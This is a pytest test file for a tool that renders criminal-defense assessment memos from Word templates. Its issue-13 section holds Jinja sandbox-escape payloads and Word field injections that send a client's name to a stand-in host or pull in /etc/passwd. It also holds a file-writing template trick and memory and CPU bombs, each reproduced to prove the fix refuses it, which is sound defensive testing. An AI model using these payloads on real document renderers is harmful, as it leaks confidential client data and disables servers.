import datetime as dt
import io
import re
import shutil
import subprocess
import zipfile

import pytest
from docx import Document
from docx.shared import Mm
from docxtpl import DocxTemplate, InlineImage
from jinja2 import StrictUndefined
from jinja2.sandbox import ImmutableSandboxedEnvironment

from assessment.core import casefile
from assessment.core.errors import AssessmentError
from assessment.evidence import analyse as evidence
from assessment.law import engine
from assessment.memo import render as memo
from assessment.memo import runner as render_worker
from assessment.memo import templates as template_store

from conftest import DEMO, ROOT, run_cli

AS_OF = dt.date(2026, 11, 30)
BUILTIN = template_store.builtin()


def assess(case, kb, folder):
    """The assessment as the CLI makes it: the caller analyses the evidence, the engine computes."""
    return engine.assess(case, kb, evidence.analyse(case, folder), AS_OF)


def render(kb, name="off-duty-lookups", **edits):
    folder = DEMO / name
    case = casefile.load(folder / "case.yaml", kb)
    if edits:
        case = case.model_copy(update=edits)
    result = assess(case, kb, folder)
    return result, case, memo.render(result, case, BUILTIN)


def all_text(doc) -> str:
    parts = [p.text for p in doc.paragraphs]
    for t in doc.tables:
        for row in t.rows:
            parts += [c.text for c in row.cells]
    return "\n".join(parts)


@pytest.fixture(scope="module")
def rendered(kb):
    result, case, data = render(kb)
    return result, case, Document(io.BytesIO(data))


def test_header_footer_and_sections(rendered):
    _, _, doc = rendered
    sec = doc.sections[0]
    assert sec.header.paragraphs[0].text == "PRIVILEGED & CONFIDENTIAL - ATTORNEY WORK PRODUCT - DRAFT"
    footer_xml = sec.footer._element.xml
    assert "DRAFT - DEMO-001 - Page" in sec.footer.paragraphs[0].text and " PAGE " in footer_xml
    headings = [p.text for p in doc.paragraphs if p.style.name.startswith("Heading")]
    for h in ("Question presented", "Brief answer", "Facts", "Evidence findings", "Charges, elements and exposure",
              "Other exposure", "Defenses, ranked", "Collateral consequences", "Recommendations",
              "Open questions and investigation checklist", "Table of authorities", "Appendices"):
        assert h in headings
    assert "PC 502(c)(2): Unauthorized access to computers, computer systems and computer data" in headings
    assert not any("{{" in t or "{%" in t for t in all_text(doc).splitlines())


GOLDEN = ["Question presented", "Brief answer", "Facts", "Evidence findings", "Charges, elements and exposure",
          "Defenses, ranked", "Collateral consequences", "What each outcome costs", "Recommendations",
          "Open questions and investigation checklist", "Table of authorities", "Appendices",
          "Appendix A. Other statutes in full",
          "Appendix B. Code headings, statutory text quoted, and common misdescriptions",
          "Appendix C. Collateral consequences in full",
          "Appendix D. Table of authorities and their holdings", "Appendix E. Evidence rows and files",
          "Appendix F. The narrative as received", "Appendix G. What each outcome costs, in full",
          "Appendix H. Chronology", "Appendix I. Open questions, investigation and discovery", "Discovery to demand"]


def the_box(doc):
    """The box of unverified items: the last table of the body, before the appendices."""
    return next(t for t in doc.tables if t.rows[0].cells[0].text.startswith("UNVERIFIED AUTHORITIES"))


def headings(doc, level: int | None = None) -> list[str]:
    return [p.text for p in doc.paragraphs if p.style.name.startswith("Heading")
            and (level is None or p.style.name == f"Heading {level}")]


@pytest.mark.parametrize("name", ["off-duty-lookups", "front-counter-login"])
def test_golden_structure_of_each_demo_memo(kb, name):
    result, case, data = render(kb, name)
    doc = Document(io.BytesIO(data))
    heads = headings(doc)
    assert [h for h in heads if h in GOLDEN] == GOLDEN                                # all, in this order
    body, appendix = heads[:heads.index("Appendices")], heads[heads.index("Appendices"):]
    named = [s for s in result.statutes if s.source != "suggested"]
    suggested = [s for s in result.statutes if s.source == "suggested"]
    charges = body[body.index("Charges, elements and exposure") + 1:body.index("Defenses, ranked")]
    assert [h for h in charges if h != "Other exposure"] == [f"{s.citation}: {s.title}" for s in named]
    assert ("Other exposure" in charges) == bool(suggested)
    in_a = appendix[appendix.index("Appendix A. Other statutes in full") + 1:appendix.index(
        "Appendix B. Code headings, statutory text quoted, and common misdescriptions")]
    assert in_a == [f"{s.citation}: {s.title}" for s in suggested]                   # in full, only in Appendix A
    ranked = body[body.index("Defenses, ranked") + 1:body.index("Collateral consequences")]
    supported = [d for d in result.defenses if d.strength != "not-supported"]
    assert ranked[:len(supported)] == [f"{i}. {d.name}: {d.strength}" for i, d in enumerate(supported, 1)]
    text = all_text(doc)
    for d in result.defenses:
        if d.strength == "not-supported":
            assert f"{d.name}: " in text                                              # one line each
    tables = {tuple(c.text for c in t.rows[0].cells) for t in doc.tables}
    assert {("Finding", "Count", "Audit rows (data rows, from 1)"), ("Element", "Status", "Basis"),
            ("Authority", "Helps", "Verification")} <= tables
    if suggested:
        assert ("Citation", "Class", "Maximum exposure", "Why raised", "Limitation") in tables
    box = the_box(doc).rows[0].cells[0].text
    assert box.startswith(f"UNVERIFIED AUTHORITIES AND STATEMENTS: CHECK EACH BEFORE RELYING ON THIS MEMO "
                          f"({len(result.unverified)})")
    assert memo.question_presented(result, case) in text and "{{" not in text and "{%" not in text
    lead = [d for d in result.defenses if d.strength in ("strong", "moderate")]
    if lead:
        assert f"Lead with {lead[0].name} ({lead[0].strength})" in text


def test_the_brief_answer_comes_first_and_answers(rendered):
    result, _, doc = rendered
    paras = [p.text for p in doc.paragraphs]
    start = paras.index("Brief answer")
    brief_part = "\n".join(paras[start:paras.index("Facts")])
    assert brief_part.count("\n") < 20                                                 # a paragraph and a few bullets
    assert "Riley Tran is charged with 6 counts: PC 502(c)(2) (4 counts), VC 1808.45 (2 counts)." in brief_part
    assert "Most serious exposure: PC 502(c)(2) (4 counts charged; Unauthorized access" in brief_part
    assert "Felony: 16 months, 2 or 3 years" in brief_part and "up to $10,000" in brief_part
    assert "Limitation: PC 502(c)(2): filed in time under Pen. Code § 801.7" in brief_part
    assert "Strongest defenses: Constitutional and compelled-statement issues (moderate)" in brief_part
    assert ("Largest collateral risk: Administrative and licensing: A felony conviction ends a peace officer's "
            "eligibility even if reduced under § 17(b)") in brief_part
    assert "Open questions that matter most" in brief_part
    assert len(re.findall(r"^\d\. ", brief_part, re.M)) == 3


def test_provenance_reads_as_words_in_grey_notes(rendered):
    result, _, doc = rendered
    text = all_text(doc)
    assert not re.search(r"\b(finding|fact|kb|narrative|computed):[a-z]", text)      # no ids in the prose
    assert "[" not in "".join(p.text for p in doc.paragraphs if p.style.name == "List Bullet")
    notes = [r.text for p in doc.paragraphs for r in p.runs if r.style is not None and r.style.name == "Source Note"]
    notes += [r.text for t in doc.tables for row in t.rows for c in row.cells for p in c.paragraphs for r in p.runs
              if r.style is not None and r.style.name == "Source Note"]
    rows = next(f for f in result.findings if f.id == "subject-queries").rows
    assert any(f"Audit log rows {', '.join(map(str, rows[:-1]))} and {rows[-1]} (subject queries)" in n for n in notes)
    assert any("Fact: compelled statement" in n for n in notes)
    assert any(n.strip().startswith("Knowledge base: ") for n in notes)


def test_findings_table_lists_rows(rendered):
    result, _, doc = rendered
    rows = next(f for f in result.findings if f.id == "subject-queries").rows
    text = all_text(doc)
    assert ", ".join(map(str, rows[:-1])) + f" and {rows[-1]}" in text
    assert "[finding:" not in text and "finding:off-duty-subject-queries" not in text


def test_unverified_box_lists_every_unverified_item(rendered):
    result, _, doc = rendered
    box = the_box(doc)
    text = box.rows[0].cells[0].text
    assert text.startswith("UNVERIFIED AUTHORITIES AND STATEMENTS: CHECK EACH BEFORE RELYING ON THIS MEMO "
                           f"({len(result.unverified)})")
    assert result.unverified
    items = text.split("\n")[1:]
    assert len([i for i in items if i.strip()]) == len(result.unverified)             # one line each, none missing
    for u in result.unverified:
        if u.kind == "authority":
            assert u.what.split(":")[0] in text


def test_no_authority_outside_the_knowledge_base(rendered, kb):
    result, case, doc = rendered
    pattern = re.compile(r"\b([A-Z][\w.&']+) v\. ([A-Z][\w.&']+)")
    allowed = {m.groups() for a in kb.authorities.values() for m in pattern.finditer(a.cite)}
    allowed |= {m.groups() for m in pattern.finditer(case.matter.title)}
    found = {m.groups() for m in pattern.finditer(all_text(doc))}
    assert found and found <= allowed
    reporter = re.compile(r"\d+ (?:Cal\.App\.\dth|Cal\.\dth|Cal\.\dd|U\.S\.|F\.\dd|S\. Ct\.) \d+")
    kb_cites = {m for a in kb.authorities.values() for m in reporter.findall(a.cite + " " + a.source + " " + (a.note or ""))}
    kb_cites |= {m for f in kb.families.values() for c in f.consequences for m in reporter.findall(c.text)}
    assert set(reporter.findall(all_text(doc))) <= kb_cites


def test_split_of_authority_presents_both_lines_once(rendered):
    _, _, doc = rendered
    text = all_text(doc)
    assert text.count("Split of authority: Does § 502 reach an employee who misuses lawful access") == 1
    assert "For the defense: Chrisman v. City of Los Angeles (2007) 155 Cal.App.4th 29; Teran v. Superior Court" in text
    assert ("For the prosecution: United States v. Christensen (9th Cir. 2016) 828 F.3d 763 (amended opinion); "
            "People v. Childs") in text


def test_section_provisions_are_printed_once_with_their_own_citation(rendered):
    _, _, doc = rendered  # PC 502(c)(2) charged and (c)(7) suggested share § 502(h)
    assert sum(p.text.startswith("Pen. Code § 502(h)(1):") for p in doc.paragraphs) == 1


@pytest.mark.parametrize("citation, pid, label", [
    ("PC 502(c)(2)", "(h)(1)", "Pen. Code § 502(h)(1)"),
    ("GC 15153", "15154", "Gov. Code § 15154"),                 # printed "§ 1515315154" before
    ("18 USC 2724", "2723(a)", "18 U.S.C. § 2723(a)"),          # printed "§ USC 27242723(a)" before
    ("PC 11142", "11105(b)", "Pen. Code § 11105(b)"),
    ("PC 68", "forfeiture", "Pen. Code § 68 (forfeiture)"),
    ("VC 1808.45", "(c)", "Veh. Code § 1808.45(c)"),
    ("PC 146g", "(e)", "Pen. Code § 146g(e)"),                  # a lettered section keeps its letter
])
def test_a_quoted_provision_is_cited_as_a_reader_writes_it(citation, pid, label):
    assert memo.provision_label(citation, pid) == label


def test_discovery_checklist_follows_the_facts(rendered):
    result, _, doc = rendered
    ids = {d.id for d in result.discovery}
    assert {"journal", "presence", "compelled-statement", "charge-evaluation"} <= ids  # off duty, Lybarger, officer
    assert "sessions" not in ids  # credentials were not shared
    assert "Discovery to demand" in [p.text for p in doc.paragraphs]


def test_case_text_is_escaped_not_interpreted(kb):
    folder = DEMO / "off-duty-lookups"
    case = casefile.load(folder / "case.yaml", kb)
    hostile = "A & B <w:p>{{ 7*7 }}</w:p> O'Neil \"quoted\""
    case = case.model_copy(update={"facts": case.facts.model_copy(update={"narrative": hostile})})
    data = memo.render(assess(case, kb, folder), case, BUILTIN)
    assert hostile in all_text(Document(io.BytesIO(data)))


def _template_with(tmp_path, text):
    d = Document()
    d.add_paragraph(text)
    path = tmp_path / "t.docx"
    d.save(path)
    return path


@pytest.mark.parametrize("tag, expect", [
    ("{{ ''.__class__.__mro__ }}", "SecurityError"),
    ("{{ cycler.__init__.__globals__.os }}", "SecurityError"),
    ("{{ matter.titel }}", "titel"),
    ("{% for x in %}", "TemplateSyntaxError"),
])
def test_bad_or_malicious_templates_are_refused(kb, tmp_path, tag, expect):
    folder = DEMO / "off-duty-lookups"
    case = casefile.load(folder / "case.yaml", kb)
    result = assess(case, kb, folder)
    with pytest.raises(AssessmentError) as err:
        memo.render(result, case, _template_with(tmp_path, tag))
    (p,) = err.value.problems
    assert p.code == "TP001" and expect in p.message and p.file.endswith("t.docx") and p.field == "paragraph 1"


# ---- issue 13, H4: staff templates could exfiltrate client data and exhaust the server ------------------
CLIENT = "Riley Tran"                   # the client of the off-duty-lookups demo case
FIELD = ('</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> {instr} '
         '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r>'
         '<w:fldChar w:fldCharType="end"/></w:r><w:r><w:t>')
EXFILTRATION = {   # each a `|safe` string that writes a Word field into the memo's XML
    "INCLUDEPICTURE with the client's name": ("INCLUDEPICTURE", "INCLUDEPICTURE \"http://x.example/' ~ client.name ~ '.png\""),
    "HYPERLINK with the client's name": ("HYPERLINK", "HYPERLINK \"http://x.example/?c=' ~ client.name ~ '\""),
    "INCLUDETEXT of a server file": ("INCLUDETEXT", "INCLUDETEXT \"/etc/passwd\""),
}


def _demo(kb, name="off-duty-lookups", **client):
    folder = DEMO / name
    case = casefile.load(folder / "case.yaml", kb)
    if client:
        case = case.model_copy(update={"client": case.client.model_copy(update=client)})
    return assess(case, kb, folder), case


def _docx(*paragraphs: str) -> bytes:
    d = Document()
    for text in paragraphs:
        d.add_paragraph(text)
    buf = io.BytesIO()
    d.save(buf)
    return buf.getvalue()


def _with_xml(template: bytes, paragraph_xml: str) -> bytes:
    """The template with a raw <w:p> added to its body (as a hand-edited .docx can have)."""
    src, buf = zipfile.ZipFile(io.BytesIO(template)), io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            part = src.read(info.filename)
            if info.filename == "word/document.xml":
                part = part.replace(b"<w:body>", b"<w:body>" + paragraph_xml.encode(), 1)
            out.writestr(info.filename, part)
    return buf.getvalue()


def _render_as_before(template: bytes, result: dict, case, charts: dict | None = None) -> bytes:
    """The render of the code before the fix, in this process: Jinja's immutable sandbox with its
    `safe` filter, the charts' InlineImage objects handed to the template, no limits, no scan."""
    doc = DocxTemplate(io.BytesIO(template))
    ctx = memo.context(result, case)
    ctx["charts"] = [{"title": t, "image": InlineImage(doc, io.BytesIO(png), width=Mm(160))}
                     for t, png in (charts or {}).items()]
    doc.render(ctx, jinja_env=ImmutableSandboxedEnvironment(autoescape=True, undefined=StrictUndefined),
               autoescape=True)
    buf = io.BytesIO()
    doc.save(buf)
    return buf.getvalue()


def _refusal(result, case, template, name="t.docx", **kw):
    with pytest.raises(AssessmentError) as err:
        memo.render(result, case, template, template_name=name, **kw)
    (p,) = err.value.problems
    assert p.file == name, p
    return p


@pytest.fixture
def small_limits(monkeypatch):
    """One CPU second and 150 MB per render, so an attack ends quickly."""
    monkeypatch.setenv("CLETS_RENDER_CPU_SECONDS", "1")
    monkeypatch.setenv("CLETS_RENDER_MEMORY_MB", "150")


@pytest.mark.parametrize("attack", list(EXFILTRATION))
def test_a_safe_string_wrote_a_field_carrying_client_data_and_is_refused_now(kb, attack):
    word, instr = EXFILTRATION[attack]
    tag = "{{ ('" + FIELD.format(instr=instr) + "')|safe }}"
    template = _docx("Memo", tag)
    result, case = _demo(kb)
    before = _render_as_before(template, result, case)              # the attack as it worked
    xml = zipfile_part(before, "word/document.xml")
    assert f"<w:instrText xml:space=\"preserve\"> {word}".encode() in xml
    if "client" in instr:
        assert CLIENT.encode() in xml
    flagged = template_store.check_rendered(before, "t.docx")      # the scan of the output would catch it too
    assert [p.code for p in flagged] == ["TP004"] and f"a {word} field" in flagged[0].message
    p = _refusal(result, case, template)                              # now: no `safe`, nothing rendered
    assert p.code == "TP001" and "No filter named 'safe'" in p.message and p.field == "paragraph 2"


def zipfile_part(docx: bytes, name: str) -> bytes:
    return zipfile.ZipFile(io.BytesIO(docx)).read(name)


@pytest.mark.parametrize("instr, word", [
    ('INCLUDEPICTURE "http://x.example/{{ client.name }}.png" \\d', "INCLUDEPICTURE"),
    ('HYPERLINK "http://x.example/?c={{ client.name }}"', "HYPERLINK"),
    ('INCLUDETEXT "/etc/passwd"', "INCLUDETEXT"),
    ("{{ 'INCLUDE' ~ 'TEXT' }} &quot;/etc/passwd&quot;", "INCLUDETEXT"),      # the field's name written by a tag
])
def test_a_field_in_the_template_that_fetches_is_refused_in_the_rendered_memo(kb, instr, word):
    """A template that skipped the upload check (`--template`, CLETS_MEMO_TEMPLATE) with a field
    whose instruction renders client data: the memo is scanned after rendering and refused."""
    xml = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> '
           + instr.replace('"', "&quot;") + ' </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    result, case = _demo(kb)
    p = _refusal(result, case, _with_xml(_docx("Memo"), xml))
    assert p.code == "TP004" and f"the rendered memo holds a {word} field" in p.message
    assert p.field == "paragraph 1 of the rendered memo"
    assert CLIENT in p.hint if "client" in instr else True


def test_a_split_field_instruction_is_read_whole_in_the_rendered_memo(kb):
    """`INCL` and `UDEPICTURE ...` in two runs: each harmless to a check of one run at a time."""
    xml = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCL</w:instrText></w:r><w:r>'
           '<w:instrText xml:space="preserve">UDEPICTURE "http://x.example/{{ client.name }}.png" </w:instrText></w:r>'
           '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar '
           'w:fldCharType="end"/></w:r></w:p>')
    result, case = _demo(kb)
    p = _refusal(result, case, _with_xml(_docx("Memo"), xml))
    assert p.code == "TP004" and "the rendered memo holds a INCLUDEPICTURE field" in p.message
    assert p.field == "paragraph 1 of the rendered memo" and f"http://x.example/{CLIENT}.png" in p.hint


def test_a_chart_no_longer_hands_the_document_to_the_template(kb, tmp_path):
    """`{{ ch.image.tpl.save(path) }}` wrote the memo anywhere the app could write (and the same
    object read any .docx on the server into the memo, new_subdoc)."""
    png = (ROOT / "docs" / "screenshot.png").read_bytes()
    target = tmp_path / "written-by-a-template.docx"
    template = _docx("{% for ch in charts %}{{ ch.image.tpl.save('" + str(target) + "') }}{% endfor %}")
    result, case = _demo(kb)
    _render_as_before(template, result, case, charts={"Timeline": png})
    assert target.exists()                                             # the attack as it worked
    target.unlink()
    p = _refusal(result, case, template, charts={"Timeline": png})
    assert p.code == "TP001" and "has no attribute 'tpl'" in p.message and p.field == "paragraph 1"
    assert not target.exists()
    ok = memo.render(result, case, _docx("{% for ch in charts %}{{ ch.title }}: {{ ch.image }}{% endfor %}"),
                     charts={"Timeline": png})
    assert zipfile_part(ok, "word/document.xml").count(b"<pic:pic") == 1    # printing a chart still works


DOUBLING = "{% set ns = namespace(s='ab') %}{% for i in range(64) %}{% set ns.s = EXPR %}{% endfor %}{{ ns.s|length }}"


@pytest.mark.parametrize("tag, what", [
    (DOUBLING.replace("EXPR", "ns.s|replace('a', 'aa')|replace('b', 'bb')"), "replace would build a value of 1,048,576"),
    (DOUBLING.replace("EXPR", "ns.s ~ ns.s"), "~ would build a value of 1,048,576"),
    (DOUBLING.replace("EXPR", "ns.s + ns.s"), "+ would build a value of 1,048,576"),
    ("{{ 'x'|center(500000000) }}", "center would build a value of 500,000,000"),          # center(5e8): 583 MB before
    ("{{ 'x'.ljust(500000000) }}", "ljust would build a value of 500,000,000"),
    ("{{ 'x'|indent(500000000, true) }}", "indent would build a value of 500,000,000"),
    ("{{ '%0500000000d'|format(1) }}", "format would build a value of 500,000,0"),
    ("{{ '{:>500000000}'.format(1) }}", "format would build a value of 500,000,0"),
    ("{{ ['ab']|batch(500000000, '-')|list }}", "batch would build a value of 500,000,000"),
    ("{% set l = ['x' * 100000] * 10 %}{{ ([l] * 10)|string }}", "would write out a value of more than 1,000,000"),
    ("{{ ((9 ** 64) ** 64) ** 64 }}", "a number of about 12,992 bits"),
    ("{% for i in range(100000) %}{{ 'x' * 100000 }}{% endfor %}", "more than 50,000,000 characters into one part"),
])
def test_templates_cannot_build_huge_values(kb, small_limits, tag, what):
    """Each refused before it allocates, as a jinja2 SecurityError, located; under a 150 MB limit."""
    result, case = _demo(kb)
    p = _refusal(result, case, _docx("Memo", tag))
    assert p.code == "TP001" and p.message.startswith("SecurityError: ") and what in p.message, p.message
    assert p.field == "paragraph 2"


def test_a_template_past_the_memory_limit_gets_a_located_error(kb, small_limits):
    """Many values each under the bound, kept together: the worker's memory limit ends it."""
    result, case = _demo(kb)
    p = _refusal(result, case, _docx("Memo", "{{ range(100000)|map('center', 900000)|list|length }}"))
    assert p.code == "TP003" and "more than 150 MB" in p.message and p.field == "paragraph 2"


def test_a_loop_bomb_that_passes_on_the_demo_case_stops_at_the_time_limit_on_another_matter(kb, small_limits):
    """10^10 iterations when the client's name has 11 letters, none on the demo case's 10: the
    upload check accepts it; the memo of another matter stops at the CPU limit, located."""
    bomb = _docx("Memo for {{ client.name }}", "{% set n = (client.name|length - 10) * 100000 %}"
                 "{% for i in range(n) %}{% for j in range(n) %}{% endfor %}{% endfor %}")
    assert memo.check_template(bomb, "t.docx") == []
    result, case = _demo(kb, "front-counter-login")
    assert len(case.client.name) == 11
    p = _refusal(result, case, bomb)
    assert p.code == "TP002" and "at most 1 s of processor time" in p.message and p.field == "paragraph 2"


def test_one_long_operation_is_killed_at_the_hard_cpu_limit(kb, small_limits):
    """Comparing two lists built by doubling is one call into C (2^40 steps): no Python code runs
    to raise the soft limit's signal, so the hard limit kills the worker; the memo names the file."""
    result, case = _demo(kb)
    tag = ("{% set a = namespace(s=['ab']) %}{% set b = namespace(s=['ab']) %}{% for i in range(40) %}"
           "{% set a.s = [a.s, a.s] %}{% set b.s = [b.s, b.s] %}{% endfor %}{{ a.s == b.s }}")
    p = _refusal(result, case, _docx("Memo", tag))
    assert p.code == "TP002" and "it was stopped when it used up its processor time" in p.message


def test_a_render_past_the_wall_clock_limit_is_stopped(kb, monkeypatch):
    monkeypatch.setattr(render_worker, "limits", lambda: (20, 512, 0.01))
    result, case = _demo(kb)
    p = _refusal(result, case, _docx("{{ client.name }}"))
    assert p.code == "TP002" and "it was stopped after 0.01 s of waiting" in p.message


def test_render_limits_come_from_the_environment(monkeypatch):
    monkeypatch.setenv("CLETS_RENDER_CPU_SECONDS", "3")
    monkeypatch.setenv("CLETS_RENDER_MEMORY_MB", "300")
    assert render_worker.limits() == (3, 300, 16)
    monkeypatch.delenv("CLETS_RENDER_CPU_SECONDS")
    monkeypatch.delenv("CLETS_RENDER_MEMORY_MB")
    assert render_worker.limits() == (20, 512, 50)
    monkeypatch.setenv("CLETS_RENDER_MEMORY_MB", "-5")           # refused, naming the variable, not ignored
    with pytest.raises(AssessmentError) as exc:
        render_worker.limits()
    assert [(p.code, p.field) for p in exc.value.problems] == [("ENV001", "CLETS_RENDER_MEMORY_MB")]


def test_the_worker_gets_no_secrets_from_the_app(kb, monkeypatch):
    """The worker's environment holds no database address or key path: a sandbox escape would
    find nothing to use."""
    monkeypatch.setenv("CLETS_DATABASE_URL", "postgresql+psycopg://app:secret@db/clets")
    assert not any(k.startswith("CLETS_") for k in render_worker._worker_env())


def test_memo_command_writes_docx(tmp_path):
    out = tmp_path / "memo.docx"
    res = run_cli("memo", str(DEMO / "front-counter-login" / "case.yaml"), "-o", str(out), "--as-of", "2026-11-30")
    assert res.returncode == 0, res.stderr
    doc = Document(str(out))
    assert "Mistaken identity: moderate" in [p.text.split(". ", 1)[-1] for p in doc.paragraphs]
    prepared = doc.tables[0].rows[2].cells[1].text                # no prepared_by in this case file, none given
    assert prepared.startswith("____________________ (attorney), ") and "clets" not in prepared.lower()
    assert prepared.endswith("(facts and law as of November 30, 2026)")


def test_the_memo_names_the_attorney_who_prepared_it_not_the_program(kb, tmp_path):
    result, case = _demo(kb)
    doc = Document(io.BytesIO(memo.render(result, case, BUILTIN, prepared_by="A. Rivera")))
    prepared = doc.tables[0].rows[2].cells[1].text
    today = dt.date.today()
    assert prepared.startswith(f"A. Rivera, {today:%B} {today.day}, {today.year}") and "clets" not in prepared.lower()
    nobody = case.model_copy(update={"matter": case.matter.model_copy(update={"prepared_by": None})})
    doc = Document(io.BytesIO(memo.render(result, nobody, BUILTIN)))
    assert doc.tables[0].rows[2].cells[1].text.startswith("____________________ (attorney)")   # a line to sign


def test_the_narrative_is_reflowed_not_broken_at_the_input_line_ends(kb):
    folder = DEMO / "off-duty-lookups"
    case = casefile.load(folder / "case.yaml", kb)
    typed = "The audit shows three queries\non March 9 and\nApril 27.\n\n- Tran was on leave.\n- Terminal FRONT02\nwas shared."
    case = case.model_copy(update={"facts": case.facts.model_copy(update={"narrative": typed})})
    paras = [p.text for p in Document(io.BytesIO(memo.render(assess(case, kb, folder), case, BUILTIN))).paragraphs]
    start = paras.index("Appendix F. The narrative as received")
    assert paras[start + 1:start + 4] == ["The audit shows three queries on March 9 and April 27.", "- Tran was on leave.",
                                          "- Terminal FRONT02 was shared."]


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed (./dev test installs it)")
def test_memo_opens_in_libreoffice_and_renders_pages(kb, tmp_path):
    _, _, data = render(kb)
    artifacts = ROOT / "artifacts"
    pdf = memo.to_pdf(data, artifacts)
    assert pdf and pdf.stat().st_size > 10_000
    subprocess.run(["pdftoppm", "-png", "-r", "60", "-f", "1", "-l", "1", str(pdf), str(artifacts / "memo-page")],
                   check=True)
    assert list(artifacts.glob("memo-page*.png"))
    info = subprocess.run(["pdfinfo", str(pdf)], capture_output=True, text=True).stdout
    assert int(re.search(r"Pages:\s+(\d+)", info).group(1)) >= 3


def test_each_consequence_is_a_line_in_the_body_and_whole_in_appendix_c(rendered):
    result, _, doc = rendered
    paras = [p.text for p in doc.paragraphs]
    cut = paras.index("Appendices")
    body, appendix = "\n".join(paras[:cut]), "\n".join(paras[cut:])
    assert result.collateral
    for fam in result.collateral:
        for c in fam.consequences:
            assert c.title in body and c.text not in body             # a line each, never a cut sentence
            assert c.text.rstrip(".") in appendix
    assert " ..." not in body and "...." not in body


def test_every_suggested_statute_is_a_row_of_other_exposure_with_its_whole_reason(rendered):
    result, _, doc = rendered
    table = next(t for t in doc.tables if t.rows[0].cells[0].text == "Citation")
    rows = {r.cells[0].text: r for r in table.rows[1:]}
    for s in result.statutes:
        if s.source == "suggested":
            why = " ".join(w.reason for w in s.why or [])
            assert rows[s.citation].cells[1].text == s.classification
            assert rows[s.citation].cells[3].text.rstrip(".") == why.rstrip(".")    # the caveats too


def test_a_firm_template_made_from_the_earlier_built_in_one_still_renders(kb):
    """A firm's letterhead template copied from the built-in one before the memo was reshaped names
    the context keys of that time (facts, s.limitation_text, s.provisions, d.summary, r.basis,
    c.verified, d.status, narrative and notes as text): it renders, with every statute, every
    defense and the unverified box, and no key comes out as a Python list."""
    old = (ROOT / "tests" / "memo" / "fixtures" / "memo-before-issue-16.docx").read_bytes()
    result, case = _demo(kb)
    doc = Document(io.BytesIO(memo.render(result, case, old, template_name="letterhead.docx")))
    text = all_text(doc)
    for s in result.statutes:
        assert f"{s.citation}: {s.title}" in text
    for d in result.defenses:
        assert d.name in text
    assert "UNVERIFIED AUTHORITIES AND STATEMENTS" in text
    assert "['" not in text and "[]" not in text
    assert memo.check_template(old, "letterhead.docx") == []


def test_a_long_narrative_is_summed_up_in_the_body_and_kept_whole_in_appendix_f(kb):
    folder = DEMO / "off-duty-lookups"
    case = casefile.load(folder / "case.yaml", kb)
    run_on = " ".join(["the client ran a query on the terminal and nobody asked why"] * 500)   # no full stop at all
    case = case.model_copy(update={"facts": case.facts.model_copy(update={"narrative": run_on})})
    ctx = memo.context(assess(case, kb, folder), case)
    assert len(ctx["summary"]["paragraphs"][0].split()) <= 221 and ctx["summary"]["continued"]
    assert ctx["narrative_paragraphs"] == [run_on]


def test_the_document_properties_name_the_preparer_and_the_matter_not_the_library(kb):
    result, case = _demo(kb)
    props = Document(io.BytesIO(memo.render(result, case, BUILTIN, prepared_by="A. Rivera"))).core_properties
    assert props.author == "A. Rivera" and props.title == "Assessment memo: People v. Riley Tran"
    assert "python-docx" not in (props.comments + props.author + props.last_modified_by)
    nobody = case.model_copy(update={"matter": case.matter.model_copy(update={"prepared_by": None})})
    assert Document(io.BytesIO(memo.render(result, nobody, BUILTIN))).core_properties.author == ""
